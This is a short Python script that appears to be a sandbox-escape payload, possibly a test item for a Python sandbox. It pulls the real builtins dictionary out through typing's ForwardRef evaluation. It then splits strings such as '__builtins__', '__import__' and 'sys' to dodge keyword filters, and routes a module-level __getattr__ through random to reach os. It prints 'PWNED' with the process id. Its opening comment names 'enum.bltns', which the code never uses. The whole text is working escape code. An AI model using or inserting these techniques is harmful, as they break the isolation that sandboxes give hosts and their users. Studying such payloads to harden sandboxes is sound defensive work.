# reflect: a module-level __getattr__ in the program answering from enum.bltns
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

import random
def __getattr__(name):
    return ga(random, name)
mod = rb["__imp" + "ort__"]("sy" + "s").modules["__main__"]
print(M, ga(mod, "_o" + "s").getpid())
